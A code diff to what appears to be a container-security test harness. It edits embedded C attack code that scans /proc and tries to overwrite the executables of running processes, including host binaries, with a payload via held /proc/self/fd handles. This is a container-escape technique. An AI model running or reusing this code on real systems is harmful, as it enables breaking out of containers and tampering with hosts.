@@ -400,6 +400,7 @@ ATTACK_C = r"""
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/stat.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -417,17 +418,18 @@ static double now(void)
 	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static void try_write(FILE *log, const char *path, int pid)
+static int try_write(FILE *log, const char *path, int pid)
 {
 	int fd = open(path, O_WRONLY);
 	if (fd < 0)
-		return;
+		return 0;
 	if (write(fd, payload, sizeof(payload) - 1) > 0)
 		fprintf(log, "WROTE pid %d via %s\n", pid, path);
 	else
 		fprintf(log, "OPENED pid %d via %s (write: %s)\n", pid, path, strerror(errno));
 	fflush(log);
 	close(fd);
+	return 1;
 }
 
 int main(int argc, char **argv)
@@ -456,6 +458,13 @@ int main(int argc, char **argv)
 			n = readlink(p, target, sizeof(target) - 1);
 			target[n > 0 ? n : 0] = 0;
 			fprintf(log, "SEEN %d %s\n", pid, n > 0 ? target : strerror(errno));
+			/* The container's own binaries are the container's to write: skip them. */
+			if (n > 0 && target[0] == '/') {
+				struct stat a, b;
+				if (stat(p, &a) == 0 && lstat(target, &b) == 0 &&
+				    a.st_dev == b.st_dev && a.st_ino == b.st_ino)
+					continue;
+			}
 			try_write(log, p, pid);
 			if (nheld < 512) {
 				int fd = open(p, O_PATH);
@@ -476,8 +485,13 @@ int main(int argc, char **argv)
 		closedir(d);
 		for (int i = 0; i < nheld; i++) {
 			char p[64];
+			if (held[i] < 0)
+				continue;
 			snprintf(p, sizeof(p), "/proc/self/fd/%d", held[i]);
-			try_write(log, p, held_pid[i]);
+			if (try_write(log, p, held_pid[i])) {
+				close(held[i]);
+				held[i] = -1;
+			}
 		}
 		/* The scan only catches pids that live long enough; keep it tight. */
 		usleep(500);
